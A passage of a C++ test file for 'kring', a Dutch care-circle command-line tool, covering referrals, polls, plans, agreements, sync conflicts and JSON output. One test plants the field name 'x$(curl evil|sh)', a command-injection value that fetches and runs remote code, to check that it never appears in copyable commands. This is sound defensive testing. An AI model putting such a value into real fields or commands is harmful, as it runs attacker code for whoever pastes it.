  People k(server, dir);
  k.NewCase("sanne", {"fatima:coordinator"});
  const std::string& sanne = k.Account("sanne");
  k.Ok("fatima", "sync");
  // The usual order: the coordinator enters Sanne (the chair) as the resident, then the first
  // referral, which names the resident by the same name.
  const std::string entered =
      k.Id("fatima", "circle propose --name Sanne --kind resident --account " + sanne, "persoon");
  k.Ok("fatima",
       "referral submit --resident Sanne --consent --reason 'Sanne wil grip op haar geld.' "
       "--invitee 'Tante Ria|family|tante|06-1234'");
  k.Ok("fatima", "sync");
  k.Ok("sanne", "sync");
  for (const char* who : {"fatima", "sanne"}) {
    // One Sanne: the referral names her entry and enters no second resident.
    size_t sannes = 0;
    const Value circle = k.Json(who, "circle list --all");
    for (const Value& p : circle.list_value().values()) {
      if (At(p, "name").string_value() == "Sanne") ++sannes;
    }
    CHECK(sannes == 1);
    CHECK(At(k.Json(who, "referral show"), "resident").string_value() == entered);
  }
  // So a name-based command finds her, and she stays in her circle.
  Run approve = k.As("fatima", "circle approve Sanne");
  INFO(approve.all);
  CHECK(approve.exit_code == 0);
  CHECK(approve.all.find("Meer mensen hebben deze naam") == std::string::npos);
  Run remove = k.As("fatima", "circle remove Sanne");
  CHECK(remove.exit_code == 1);
  CHECK(remove.all.find("De hoofdpersoon kan niet uit de eigen kring") != std::string::npos);
}

TEST_CASE("write commands print JSON with --json, and conflicts show labels, not stored names",
          "[cli]") {
  TestServer server;
  TempDir dir;
  People k(server, dir);
  // Made things: their id as {"id": ...}, the same id the read commands show.
  const Value sanne_account = k.Json("sanne", "account create");
  const std::string sanne = At(sanne_account, "id").string_value();
  CHECK(sanne.size() == 32);
  CHECK(At(sanne_account, "account").string_value() == sanne);
  const std::string fatima = At(k.Json("fatima", "account create"), "id").string_value();
  REQUIRE(fatima.size() == 32);
  const Value made = k.Json("sanne", "case create " + fatima + ":coordinator");
  const std::string cid = At(made, "id").string_value();
  REQUIRE(cid.size() == 32);
  CHECK(At(made, "case").string_value() == cid);
  k.Ok("fatima", "sync");

  Run proposed = k.As("fatima", "--json circle propose --name Ria --kind family --relation tante");
  INFO(proposed.all);
  REQUIRE(proposed.exit_code == 0);
  const Value person = ParseJson(proposed.out);  // one JSON document, no text before or after
  const std::string ria = At(person, "id").string_value();
  REQUIRE(ria.size() == 32);
  CHECK(At(k.Json("fatima", "circle list").list_value().values(0), "id").string_value() == ria);
  // A change without an id: {"ok": true}.
  const Value approved = k.Json("fatima", "circle approve Ria");
  CHECK(At(approved, "ok").bool_value());
  CHECK(approved.struct_value().fields_size() == 1);
  const Value poll = k.Json("fatima", "poll create --slot now+7d@19:30");
  CHECK(At(poll, "id").string_value() == At(k.Json("fatima", "poll show"), "id").string_value());
  // The general commands too.
  const Value entity = k.Json("fatima", "entity create " + cid + " notitie");
  const std::string note = At(entity, "id").string_value();
  REQUIRE(note.size() == 32);
  CHECK(At(k.Json("fatima", "field set " + cid + " " + note + " tekst hallo"), "ok").bool_value());
  const Value role = k.Json("sanne", "member role " + cid + " " + fatima + " member");
  CHECK(At(role, "ok").bool_value());
  CHECK(At(role, "synced").bool_value());
  k.Ok("sanne", "member role " + cid + " " + fatima + " coordinator");
  CHECK(At(k.Json("fatima", "sync"), "ok").bool_value());

  // Two people change Ria's relation at the same time: the conflict is told with the words of
  // the user's language, not the stored type and field names.
  k.Ok("sanne", "sync");
  k.Ok("sanne", "circle edit Ria --relation 'tante van moederskant'");
  k.Ok("fatima", "circle edit Ria --relation 'tante Ria'");
  k.Ok("sanne", "sync");
  REQUIRE(k.Json("sanne", "conflicts").list_value().values_size() == 1);
  Run dutch = k.As("sanne", "conflicts --values");
  INFO(dutch.all);
  REQUIRE(dutch.exit_code == 0);
  CHECK(dutch.out.find("persoon in de kring Ria (" + ria + "): relatie met de bewoner") !=
        std::string::npos);
  CHECK(dutch.out.find("person " + ria) == std::string::npos);
  CHECK(dutch.out.find("veld relation") == std::string::npos);
  CHECK(dutch.out.find("(current)") == std::string::npos);
  CHECK(dutch.out.find("\"tante van moederskant\"") != std::string::npos);
  // The stored names only in the command that resolves it, which works as shown.
  const std::string resolve =
      "kring conflicts resolve --case " + cid + " --entity " + ria + " --field relation";
  // One complete line per choice: "--keep current|other" pasted into a shell is a pipe.
  CHECK(dutch.out.find("--keep current|other") == std::string::npos);
  CHECK(dutch.out.find("      " + resolve + " --keep huidige\n") != std::string::npos);
  CHECK(dutch.out.find("      " + resolve + " --keep andere\n") != std::string::npos);
  Run english = k.As("sanne", "--lang en conflicts");
  CHECK(english.out.find("person in the circle Ria (" + ria + "): relation to the resident") !=
        std::string::npos);
  k.Ok("sanne", resolve.substr(6) + " --keep current");
  CHECK(k.Json("sanne", "conflicts").list_value().values_size() == 0);
}

// The plan's headings and life domains are named in conflicts with the words `kring plan show`
// uses (the domain's texts): "finances" in English, not a second wording of the command line's.
TEST_CASE("conflicts name the plan's fields with the domain's words", "[cli]") {
  TestServer server;
  TempDir dir;
  People k(server, dir);
  const std::string cid = k.NewCase("sanne", {"fatima:coordinator"});
  k.Ok("fatima", "sync");
  const std::string note =
      At(k.Json("sanne", "entity create " + cid + " notitie"), "id").string_value();
  REQUIRE(note.size() == 32);
  k.Ok("fatima", "sync");
  for (const char* field : {"domain_finances", "domain_daytime", "wil"}) {
    k.Ok("sanne", "field set " + cid + " " + note + " " + field + " 'van Sanne'");
    k.Ok("fatima", "field set " + cid + " " + note + " " + field + " 'van Fatima'");
  }
  k.Ok("sanne", "sync");
  REQUIRE(k.Json("sanne", "conflicts").list_value().values_size() == 3);
  const Run dutch = k.As("sanne", "conflicts");
  INFO(dutch.all);
  REQUIRE(dutch.exit_code == 0);
  CHECK(dutch.out.find(": geld\n") != std::string::npos);
  CHECK(dutch.out.find(": dagbesteding\n") != std::string::npos);
  CHECK(dutch.out.find(": ik wil\n") != std::string::npos);
  const Run english = k.As("sanne", "--lang en conflicts");
  INFO(english.all);
  REQUIRE(english.exit_code == 0);
  CHECK(english.out.find(": finances\n") != std::string::npos);
  CHECK(english.out.find(": daytime activity\n") != std::string::npos);
  CHECK(english.out.find(": I want\n") != std::string::npos);
  CHECK(english.out.find("money") == std::string::npos);
}

TEST_CASE("a field name that is not safe in a shell never goes into a command to copy", "[cli]") {
  TestServer server;
  TempDir dir;
  People k(server, dir);
  const std::string cid = k.NewCase("sanne", {"fatima:coordinator"}, false);
  REQUIRE(cid.size() == 32);
  const std::string note =
      At(k.Json("sanne", "entity create " + cid + " notitie"), "id").string_value();
  REQUIRE(note.size() == 32);
  k.Ok("fatima", "sync");
  // Any member can write any field name: this one runs a download when pasted into a shell.
  const std::string field = "x$(curl evil|sh)";
  k.Ok("sanne", "field set " + cid + " " + note + " '" + field + "' een");
  k.Ok("fatima", "field set " + cid + " " + note + " '" + field + "' twee");
  k.Ok("sanne", "sync");
  const Value open = k.Json("sanne", "conflicts");
  REQUIRE(open.list_value().values_size() == 1);
  CHECK(At(open.list_value().values(0), "field").string_value() == field);  // scripts get it
  for (const char* lang : {"", "--lang en "}) {
    Run shown = k.As("sanne", std::string(lang) + "conflicts");
    INFO(shown.all);
    REQUIRE(shown.exit_code == 0);
    // The name may be shown as the field's label, never in a line with a command.
    std::istringstream lines(shown.out);
    for (std::string line; std::getline(lines, line);) {
      if (line.find("kring ") == std::string::npos) continue;
      CHECK(line.find("$(") == std::string::npos);
      CHECK(line.find("curl") == std::string::npos);
    }
    CHECK(shown.out.find("kring conflicts --json") != std::string::npos);
    const std::string name = *lang == '\0' ? "VELD" : "FIELD";
    for (const char* keep : *lang == '\0' ? std::array<const char*, 2>{"huidige", "andere"}
                                          : std::array<const char*, 2>{"current", "other"}) {
      CHECK(shown.out.find("kring conflicts resolve --case " + cid + " --entity " + note +
                           " --field " + name + " --keep " + keep + "\n") != std::string::npos);
    }
  }
}

TEST_CASE(
    "with --json a made item's id comes whatever the sync did, and a failed change prints nothing",
    "[cli]") {
  TestServer server;
  TempDir dir;
  People k(server, dir);
  const std::string offline = "127.0.0.1:1";
  k.Id("sanne", "account create", "account");
  const std::string fatima = k.Id("fatima", "account create", "account");
  const std::string cid =
      At(k.Json("sanne", "case create " + fatima + ":coordinator"), "id").string_value();
  REQUIRE(cid.size() == 32);
  k.Ok("fatima", "sync");

  // Without a server: kept on the device, exit 0, and the id with "synced": false.
  Run kept =
      k.As("fatima", "--json circle propose --name Ria --kind family --relation tante", offline);
  INFO(kept.all);
  REQUIRE(kept.exit_code == 0);
  const Value ria = ParseJson(kept.out);
  REQUIRE(At(ria, "id").string_value().size() == 32);
  CHECK(At(ria, "synced").kind_case() == Value::kBoolValue);
  CHECK_FALSE(At(ria, "synced").bool_value());
  const Value sent = k.Json("fatima", "sync");
  CHECK(At(sent, "ok").bool_value());

  // Sanne closes the case before Fatima's device knows: kringd refuses what Fatima makes, after
  // it was stored on her device. A script still learns its id; the exit code says it failed.
  k.Ok("sanne", "case close --case " + cid);
  Run refused = k.As("fatima", "--json circle propose --name Piet --kind family --relation neef");
  INFO(refused.all);
  CHECK(refused.exit_code == 1);
  const Value piet = ParseJson(refused.out);
  CHECK(At(piet, "id").string_value().size() == 32);
  CHECK(At(piet, "synced").kind_case() == Value::kBoolValue);
  CHECK_FALSE(At(piet, "synced").bool_value());
  // Now her device knows: nothing more is made, and nothing is printed on stdout.
  Run entity = k.As("fatima", "--json entity create " + cid + " notitie");
  CHECK(entity.exit_code == 1);
  CHECK(entity.out.empty());

  // A change refused before anything was stored: nothing on stdout, the reason on stderr.
  Run edit = k.As("fatima", "--json circle edit Ria --relation nicht");
  INFO(edit.all);
  CHECK(edit.exit_code == 1);
  CHECK(edit.out.empty());
  CHECK(edit.all.find("gesloten") != std::string::npos);
  Run field = k.As(
      "fatima", "--json field set " + cid + " " + At(ria, "id").string_value() + " relation tante");
  CHECK(field.exit_code == 1);
  CHECK(field.out.empty());
}

TEST_CASE("with --json what a person must be told stays on stderr, and stdout is one document",
          "[cli]") {
  TestServer server;
  TempDir dir;
  People k(server, dir);
  auto stderr_of = [](const Run& r) { return r.all.substr(r.out.size()); };

  // The recovery key is shown once, to the person: on stderr, never in the JSON.
  Run made = k.As("sanne", "--json account create");
  INFO(made.all);
  REQUIRE(made.exit_code == 0);
  const Value account = ParseJson(made.out);
  CHECK(account.struct_value().fields_size() == 4);  // id, account, device, safety_number
  const std::string err = stderr_of(made);
  CHECK(err.find("herstelsleutel") != std::string::npos);
  std::string key = err.substr(0, err.find_last_not_of('\n') + 1);
  key = key.substr(key.rfind('\n') + 1);
  CHECK(key.size() >= 16);
  CHECK(made.out.find(key) == std::string::npos);

  const std::string fatima = At(k.Json("fatima", "account create"), "id").string_value();
  const std::string ria = At(k.Json("ria", "account create"), "id").string_value();
  const std::string bas = At(k.Json("bas", "account create"), "id").string_value();
  const std::string cid =
      At(k.Json("sanne", "case create --history " + fatima + ":coordinator"), "id").string_value();
  REQUIRE(cid.size() == 32);
  k.Ok("fatima", "sync");

  // member add: {"ok": true, "synced": true}.
  const Value added = k.Json("sanne", "member add " + cid + " " + bas + ":member");
  CHECK(At(added, "ok").bool_value());
  CHECK(At(added, "synced").bool_value());
  k.Ok("bas", "sync");

  // Ria's account already belongs to someone in the circle when she accepts an invitation for
  // Tante Ria: approving her does not link it, and the warnings reach her on stderr.
  k.Ok("fatima", "circle propose --name 'Ria V' --kind family --relation nicht --account " + ria);
  k.Ok("fatima", "circle approve 'Ria V'");
  k.Ok("fatima", "circle propose --name 'Tante Ria' --kind family --relation tante");
  k.Ok("fatima", "circle approve 'Tante Ria'");
  const Value invite = k.Json("fatima", "invitation app 'Tante Ria'");
  const std::string link = At(invite, "link").string_value();
  REQUIRE(!link.empty());
  CHECK(At(invite, "synced").bool_value());
  const Value accepted = k.Json("ria", "invite accept " + link);
  CHECK(At(accepted, "ok").bool_value());
  CHECK(At(accepted, "case").string_value() == cid);
  CHECK(At(accepted, "synced").bool_value());
  Run approved = k.As("sanne", "--json member approve " + cid + " " + ria);
  INFO(approved.all);
  REQUIRE(approved.exit_code == 0);
  CHECK(At(ParseJson(approved.out), "ok").bool_value());
  CHECK(stderr_of(approved).find("Let op") != std::string::npos);
  CHECK(stderr_of(approved).find("kring circle link") != std::string::npos);

  // A member removed: the notice that what was seen cannot be taken back, and that the person
  // is still in the circle, with --json on stderr.
  Run removed = k.As("sanne", "--json member remove " + cid + " " + ria);
  INFO(removed.all);
  REQUIRE(removed.exit_code == 0);
  CHECK(At(ParseJson(removed.out), "ok").bool_value());
  CHECK(stderr_of(removed).find("kunnen we niet terughalen") != std::string::npos);
  CHECK(stderr_of(removed).find("Deze persoon staat nog in de kring") != std::string::npos);

  // Leaving: told the same way.
  Run left = k.As("bas", "--json case leave " + cid);
  INFO(left.all);
  REQUIRE(left.exit_code == 0);
  CHECK(At(ParseJson(left.out), "ok").bool_value());
  CHECK(stderr_of(left).find("Je bent uit de kring gestapt") != std::string::npos);

  // Invite create: its id, the link and whether it reached kringd.
  const Value created = k.Json("sanne", "invite create " + cid + " member --hours 24");
  CHECK(At(created, "id").string_value() == At(created, "invite").string_value());
  CHECK(At(created, "link").string_value().rfind("kring://invite/1/", 0) == 0);
  CHECK(At(created, "synced").bool_value());
}

TEST_CASE("a conflict on a poll answer is told with its words, and poll answer's help in English",
          "[cli]") {
  TestServer server;
  TempDir dir;
  People k(server, dir);
  const std::string cid = k.NewCase("sanne", {"fatima:coordinator", "joke:coordinator"}, false);
  k.Ok("fatima", "sync");
  k.Ok("fatima", "circle propose --name Ria --kind family --relation tante");
  k.Ok("fatima", "circle approve Ria");
  k.Ok("fatima", "poll create --slot now+7d@19:30");
  k.Ok("fatima", "poll answer 1 ja --person Ria");
  k.Ok("fatima", "sync");
  k.Ok("joke", "sync");
  // Joke and Fatima answer for Ria at the same time, with different answers.
  k.Ok("joke", "poll answer 1 nee --person Ria");
  k.Ok("fatima", "poll answer 1 als-het-moet --person Ria");
  k.Ok("fatima", "sync");
  k.Ok("joke", "sync");
  REQUIRE(k.Json("joke", "conflicts").list_value().values_size() == 1);
  Run dutch = k.As("joke", "conflicts --values");
  INFO(dutch.all);
  REQUIRE(dutch.exit_code == 0);
  CHECK(dutch.out.find(": antwoord voor een moment\n") != std::string::npos);
  CHECK(dutch.out.find("\"als het moet\"") != std::string::npos);
  CHECK(dutch.out.find("\"nee\"") != std::string::npos);
  CHECK(dutch.out.find("if_need_be") == std::string::npos);
  CHECK(dutch.out.find("\"no\"") == std::string::npos);
  Run english = k.As("joke", "--lang en conflicts --values");
  CHECK(english.out.find(": answer for a time\n") != std::string::npos);
  CHECK(english.out.find("\"if need be\"") != std::string::npos);
  CHECK(english.out.find("\"no\"") != std::string::npos);

  // The help of poll answer names the words of the user's language.
  Run help = k.As("sanne", "--lang en poll answer --help");
  CHECK(help.exit_code == 0);
  CHECK(help.out.find("yes|if-need-be|no") != std::string::npos);
  CHECK(help.out.find("als-het-moet") == std::string::npos);
  CHECK(k.As("sanne", "poll answer --help").out.find("ja|als-het-moet|nee") != std::string::npos);
}

// An agreement made in private time gets a new id at the release; the id the network noted
// still names it at the six-week check, for --assess and --obstacle alike.
TEST_CASE("six-week check by the private-time id", "[cli]") {
  TestServer server;
  TempDir dir;
  People k(server, dir);
  k.NewCase("sanne", {"fatima:coordinator", "ria"});
  const std::string sanne = k.Account("sanne"), ria = k.Account("ria");
  k.Ok("fatima", "sync");
  k.Ok("fatima", "circle propose --name Sanne --kind resident --account " + sanne);
  k.Ok("fatima",
       "circle propose --name 'Tante Ria' --kind family --relation tante --account " + ria);
  k.Ok("fatima", "circle approve Sanne");
  k.Ok("fatima", "circle approve 'Tante Ria'");
  k.Ok("fatima", "poll create --slot now+7d@19:30");
  k.Ok("fatima",
       "poll fix 1 --coarse 'Bij Sanne thuis' --exact 'Kerkstraat 12' "
       "--no-pretalk-reason 'Spoed.'");
  k.Ok("fatima", "meeting phase informatie");
  k.Ok("sanne", "sync");
  k.Ok("sanne", "meeting private-time");
  k.Ok("ria", "sync");
  const std::string noted =
      k.Id("ria", "agreement add --action 'Oom Henk belt de woningbouw' --due now+14d", "afspraak");
  const std::string draft = k.Id("sanne",
                                 "plan draft --ik-wil 'Rust in huis.' --contingency 'Bel Ria.' "
                                 "--contact-person 'Tante Ria'",
                                 "concept");
  k.Ok("ria", "sync");
  k.Ok("ria", "meeting release --yes");
  k.Ok("sanne", "sync");
  k.Ok("sanne", "plan release " + draft);
  k.Ok("sanne", "plan accept");
  k.Ok("fatima", "sync");
  const Value listed = k.Json("fatima", "agreement list");
  REQUIRE(listed.list_value().values_size() == 1);
  const std::string copy = At(listed.list_value().values(0), "id").string_value();
  REQUIRE(copy != noted);
  REQUIRE(At(listed.list_value().values(0), "copy_of").string_value() == noted);

  Run assessed =
      k.As("fatima", "check six-week --at now+43d --assess " + noted + "=loopt-vast --obstacle " +
                         noted + "='Geen antwoord van de woningbouw.' --obstacle-owner " + noted +
                         "='Tante Ria'");
  INFO(assessed.all);
  REQUIRE(assessed.exit_code == 0);
  k.Ok("sanne", "sync");
  Run shown = k.As("sanne", "check show");
  INFO(shown.all);
  CHECK(shown.out.find("Oom Henk belt de woningbouw  [loopt vast]") != std::string::npos);
  CHECK(shown.out.find("Wat in de weg zit: Geen antwoord van de woningbouw.") != std::string::npos);
  CHECK(shown.out.find("Wie dat oplost: Tante Ria") != std::string::npos);
  const Value check = k.Json("sanne", "check show");
  const auto& rows = At(At(check, "latest"), "assessments").list_value();
  REQUIRE(rows.values_size() == 1);
  CHECK(At(rows.values(0), "agreement").string_value() == copy);
  CHECK(At(rows.values(0), "result").string_value() == "blocked");
  CHECK(StatusOf(k, "sanne", copy) == "blocked");
}

TEST_CASE("six-week check obstacle and plan show agreements", "[cli]") {
  TestServer server;
  TempDir dir;
  People k(server, dir);
  const auto [cid, post, shop] = AcceptedPlanWithTwoAgreements(k);
  // --assess without "=": the form it takes and the choices, not "no valid id".
  Run bare = k.As("fatima", "check six-week --at now+43d --assess " + shop);
  INFO(bare.all);
  CHECK(bare.exit_code == 2);
  CHECK(bare.all.find("--assess: schrijf AFSPRAAK=klaar|deels|niet-gedaan|loopt-vast") !=
        std::string::npos);
  CHECK(bare.all.find("geen geldige id") == std::string::npos);
  // Blocked without saying what blocks it: the refusal names the option that says it.
  Run missing = k.As("fatima", "check six-week --at now+43d --assess " + shop + "=loopt-vast");
  INFO(missing.all);
  CHECK(missing.exit_code == 1);
  CHECK(missing.all.find("Optie: --obstacle.") != std::string::npos);
  // An obstacle goes with an agreement assessed loopt-vast only.
  Run stray = k.As("fatima", "check six-week --at now+43d --assess " + shop +
                                 "=klaar --obstacle 'De bus rijdt niet.'");
  CHECK(stray.exit_code == 2);
  CHECK(stray.all.find("--obstacle hoort bij een afspraak met --assess AFSPRAAK=loopt-vast") !=
        std::string::npos);
  // An agreement that is not in the plan is not silently left out.
  Run unknown =
      k.As("fatima", "check six-week --at now+43d --assess " + std::string(32, 'a') + "=klaar");
  CHECK(unknown.exit_code == 1);
  CHECK(unknown.all.find("Optie: --assess.") != std::string::npos);

  // One agreement blocked: --obstacle without its id.
  k.Ok("fatima", "check six-week --at now+43d --assess " + shop +
                     "=loopt-vast --obstacle 'De bus rijdt niet.' --obstacle-owner Sanne "
                     "--new-due 20-12-2030");
  k.Ok("sanne", "sync");
  Run check = k.As("sanne", "check show");
  INFO(check.all);
  CHECK(check.out.find("Boodschappen doen  [loopt vast] nieuwe datum ") != std::string::npos);
  // A date alone is the end of that day, as for every due date.
  CHECK(check.out.find("2030, 23:59") != std::string::npos);
  CHECK(check.out.find("Wat in de weg zit: De bus rijdt niet.") != std::string::npos);
  CHECK(check.out.find("Wie dat oplost: Sanne") != std::string::npos);
  // Two blocked: each its own, with AFSPRAAK=.
  Run two = k.As("fatima", "check six-week --at now+44d --assess " + shop +
                               "=loopt-vast --assess " + post + "=loopt-vast --obstacle " + post +
                               "='Geen sleutel.' --obstacle-owner " + post + "=Sanne");
  INFO(two.all);
  REQUIRE(two.exit_code == 0);
  const Value shown = k.Json("fatima", "check show");
  std::map<std::string, std::string> obstacles;
  for (const Value& a : At(At(shown, "latest"), "assessments").list_value().values()) {
    obstacles[At(a, "agreement").string_value()] =
        At(At(a, "obstacle"), "description").string_value();
  }
  CHECK(obstacles[shop] == "De bus rijdt niet.");
  CHECK(obstacles[post] == "Geen sleutel.");

  // plan show lists the plan's agreements as agreement list does: who, what, state, obstacle.
  k.Ok("sanne", "sync");
  Run plan = k.As("sanne", "plan show");
  INFO(plan.all);
  REQUIRE(plan.exit_code == 0);
  CHECK(plan.out.find("  Afspraken:\n") != std::string::npos);
  CHECK(plan.out.find("  " + post + "  Tante Ria: Post openen  [loopt vast] voor ") !=
        std::string::npos);
  CHECK(plan.out.find("    Wat in de weg zit: Geen sleutel.") != std::string::npos);
  const Value json = k.Json("sanne", "plan show");
  CHECK(At(json, "agreements").number_value() == 2);
  const auto& rows = At(json, "agreement_list").list_value().values();
  REQUIRE(rows.size() == 2);
  for (const Value& a : rows) {
    CHECK(At(a, "status").string_value() == "blocked");
    CHECK(At(a, "owner").string_value().size() == 32);
    CHECK(At(a, "due_ms").number_value() > 0);
  }
}

TEST_CASE("conflict words and options named in refusals", "[cli]") {
  TestServer server;
  TempDir dir;
  People k(server, dir);
  const auto [cid, post, shop] = AcceptedPlanWithTwoAgreements(k);
  // Ria and the coordinator set the same agreement's state at once.
  k.Ok("fatima", "sync");
  k.Ok("ria", "agreement status " + post + " niet-gedaan");
  k.Ok("fatima", "agreement status " + post + " deels");
  k.Ok("ria", "sync");
  Run values = k.As("ria", "conflicts --values");
  INFO(values.all);
  REQUIRE(values.exit_code == 0);
  CHECK(values.out.find("\"niet gedaan\"") != std::string::npos);
  CHECK(values.out.find("\"deels\"") != std::string::npos);
  CHECK(values.out.find("not_done") == std::string::npos);
  CHECK(values.out.find("partly") == std::string::npos);
  Run english = k.As("ria", "--lang en conflicts --values");
  CHECK(english.out.find("\"not done\"") != std::string::npos);

  // A refusal of the library about what an option gives names that option.
  Run service = k.As("fatima", "micro cost intake --euros 250");
  INFO(service.all);
  CHECK(service.exit_code == 1);
  CHECK(service.all.find("Optie: --service.") != std::string::npos);
  Run action = k.As("sanne", "--lang en agreement add --owner 'Tante Ria' --due now+3d");
  INFO(action.all);
  CHECK(action.exit_code == 1);
  CHECK(action.all.find("Option: --action.") != std::string::npos);
  // A time that is none names its option, of the several a command takes.
  Run at = k.As("fatima", "poll create --slot now+7d@19:30 --deadline morgen");
  INFO(at.all);
  CHECK(at.exit_code == 1);
  CHECK(at.all.find("--deadline: Schrijf de datum") != std::string::npos);
  // An id that is none names the option it was given with.
  Run entity = k.As("fatima", "conflicts resolve --entity nee --field tekst --keep other");
  CHECK(entity.exit_code == 2);
  CHECK(entity.all.find("--entity: Dit is geen geldige id.") != std::string::npos);
  // A slot that is not in the poll is named, with the numbers the poll has.
  k.Ok("fatima", "poll create --slot now+7d@19:30 --slot now+8d@19:30");
  Run slot = k.As("fatima", "poll answer 7 ja --person 'Tante Ria'");
  INFO(slot.all);
  CHECK(slot.exit_code == 1);
  CHECK(slot.all.find("MOMENT 7: dit moment staat niet in de prikker. Geef het nummer, 1 tot en "
                      "met 2") != std::string::npos);
  // Fixing the meeting: the place, and why it goes ahead without every pre-talk, by option.
  Run coarse = k.As("fatima", "poll fix 1 --exact 'Dorpsstraat 1'");
  INFO(coarse.all);
  CHECK(coarse.exit_code == 1);
  CHECK(coarse.all.find("Optie: --coarse.") != std::string::npos);
  Run pretalk = k.As("fatima", "poll fix 1 --coarse 'Bij Sanne thuis' --exact 'Dorpsstraat 1'");
  INFO(pretalk.all);
  CHECK(pretalk.exit_code == 1);
  CHECK(pretalk.all.find("Optie: --no-pretalk-reason.") != std::string::npos);
}

TEST_CASE("invitation app takes only listed roles and says a link stopped working", "[cli]") {
  TestServer server;
  TempDir dir;
  People k(server, dir);
  const std::string cid = k.NewCase("sanne", {"fatima:coordinator"});
  k.Account("ria");
  k.Ok("fatima", "sync");
  k.Ok("fatima", "circle propose --name 'Tante Ria' --kind family --relation tante");
  k.Ok("fatima", "circle approve 'Tante Ria'");
  // A word that is no role (a typo) makes nothing, and the choices are named.
  Run typo = k.As("fatima", "invitation app 'Tante Ria' --role hoofdpesroon");
  INFO(typo.all);
  CHECK(typo.exit_code == 2);
  CHECK(typo.all.find("--role: kies deelnemer, hoofdpersoon of gespreksleider.") !=
        std::string::npos);
  CHECK(k.Json("fatima", "invite list " + cid).list_value().values_size() == 0);
  // The Dutch word, in any case, makes the invitation it names.
  Run first = k.As("fatima", "invitation app 'Tante Ria' --role Gespreksleider");
  INFO(first.all);
  REQUIRE(first.exit_code == 0);
  CHECK(first.all.find("werkt niet meer") == std::string::npos);
  std::smatch m;
  REQUIRE(std::regex_search(first.out, m, std::regex("link (\\S+)")));
  const std::string first_link = m[1];
  const Value invites = k.Json("fatima", "invite list " + cid);
  REQUIRE(invites.list_value().values_size() == 1);
  CHECK(At(invites.list_value().values(0), "role").string_value() == "coordinator");
  // A new link for the same person turns the first one off, and the user is told so.
  Run second = k.As("fatima", "invitation app 'Tante Ria'");
  INFO(second.all);
  REQUIRE(second.exit_code == 0);
  CHECK(second.all.find("Let op: de eerdere uitnodiging voor deze persoon werkt niet meer. Stuur "
                        "alleen deze nieuwe link.") != std::string::npos);
  Run old = k.As("ria", "invite accept " + first_link);
  CHECK(old.exit_code != 0);
}

TEST_CASE("a new poll asks before answers stop counting and typed words are checked", "[cli]") {
  TestServer server;
  TempDir dir;
  People k(server, dir);
  CaseWithCoordinator(k, "x");
  k.Ok("x", "poll create --slot now+3d --slot now+4d");
  const std::string first = At(k.Json("x", "poll show"), "id").string_value();
  // Dutch words in any case.
  k.Ok("x", "poll answer 1 Ja");
  k.Ok("x", "poll answer 2 Als-Het-Moet");
  Run word = k.As("x", "poll answer 1 jawel");
  CHECK(word.exit_code == 2);
  CHECK(word.all.find("Kies: ja, als-het-moet of nee.") != std::string::npos);
  // People answered the open poll: a new one only when asked for, else nothing changes.
  Run again = k.As("x", "poll create --slot now+5d");
  INFO(again.all);
  CHECK(again.exit_code == 2);
  CHECK(again.all.find("Geef dezelfde opdracht dan met --vervang.") != std::string::npos);
  CHECK(At(k.Json("x", "poll show"), "id").string_value() == first);
  // A date without its time is no moment to meet: refused, not midnight.
  Run midnight = k.As("x", "poll create --slot 5-12-2027 --vervang");
  CHECK(midnight.exit_code == 2);
  CHECK(midnight.all.find("--slot: geef ook de tijd") != std::string::npos);
  Run replaced = k.As("x", "poll create --slot now+5d --vervang");
  INFO(replaced.all);
  REQUIRE(replaced.exit_code == 0);
  CHECK(replaced.all.find("Deze prikker vervangt de vorige.") != std::string::npos);
  CHECK(At(k.Json("x", "poll show"), "id").string_value() != first);
  // --kind takes the listed words only: another word fixes nothing.
  const std::string fix =
      "poll fix 1 --coarse 'Bij Sanne' --exact 'Dorpsstraat 1' "
      "--no-pretalk-reason spoed --kind ";
  Run place = k.As("x", fix + "tuin");
  INFO(place.all);
  CHECK(place.exit_code == 2);
  CHECK(place.all.find("--kind: kies thuis, locatie of online.") != std::string::npos);
  CHECK(k.As("x", "meeting show").exit_code != 0);
  k.Ok("x", fix + "Thuis");
  CHECK(At(k.Json("x", "meeting show"), "coarse_location").string_value() == "Bij Sanne");
}

TEST_CASE("a due date alone is the end of that day", "[cli]") {
  TestServer server;
  TempDir dir;
  People k(server, dir);
  CaseWithCoordinator(k, "x");
  k.Ok("x", "agreement add --owner Xandra --action 'Post openen' --due 5-12-2027");
  Run list = k.As("x", "agreement list");
  INFO(list.all);
  CHECK(list.out.find("5 december 2027") != std::string::npos);
  CHECK(list.out.find("23:59") != std::string::npos);
  CHECK(list.out.find("00:00") == std::string::npos);
}

TEST_CASE("names are found in any case and two that differ only in case are ambiguous", "[cli]") {
  TestServer server;
  TempDir dir;
  People k(server, dir);
  CaseWithCoordinator(k, "x");
  k.Ok("x", "circle propose --name 'Élodie Bakker' --kind friend --relation buurvrouw");
  k.Ok("x", "circle approve 'élodie bakker'");
  k.Ok("x", "circle propose --name 'Kees Bakker' --kind family --relation oom");
  Run twin = k.As("x", "circle propose --name 'kees bakker' --kind family --relation neef");
  CHECK(twin.all.find("Let op: er is al iemand in de kring met deze naam") != std::string::npos);
  Run guess = k.As("x", "circle approve 'KEES BAKKER'");
  CHECK(guess.exit_code == 2);
  CHECK(guess.all.find("Meer mensen hebben deze naam; gebruik de id.") != std::string::npos);
  size_t approved = 0;
  const Value circle = k.Json("x", "circle list");
  for (const Value& p : circle.list_value().values()) {
    if (At(p, "status").string_value() == "approved") ++approved;
  }
  CHECK(approved == 2);  // Xandra and Élodie
}

TEST_CASE("a referral sent twice proposes nobody twice", "[cli]") {
  TestServer server;
  TempDir dir;
  People k(server, dir);
  CaseWithCoordinator(k, "x");
  const std::string referral =
      "referral submit --resident 'Sanne de Vries' --consent --reason 'Grip op geld.' "
      "--invitee 'Oom Piet|family|oom|06-5678' --invitee ";
  k.Ok("x", referral + "'Tante Ria|family|tante|06-1234'");
  Run again = k.As("x", referral + "'tante ria|family|tante|06-1234'");
  INFO(again.all);
  REQUIRE(again.exit_code == 0);
  CHECK(again.all.find("Staat al in de kring, niet opnieuw voorgesteld: tante ria") !=
        std::string::npos);
  std::map<std::string, int> named;
  const Value circle = k.Json("x", "circle list");
  for (const Value& p : circle.list_value().values()) {
    ++named[At(p, "name").string_value()];
  }
  CHECK(named["Tante Ria"] == 1);
  CHECK(named["tante ria"] == 0);
  CHECK(named["Oom Piet"] == 1);
  CHECK(named["Sanne de Vries"] == 1);
}

TEST_CASE("plan drafts and releases told in words a user acts on", "[cli]") {
  TestServer server;
  TempDir dir;
  People k(server, dir);
  k.NewCase("sanne", {"fatima:coordinator", "ria"});
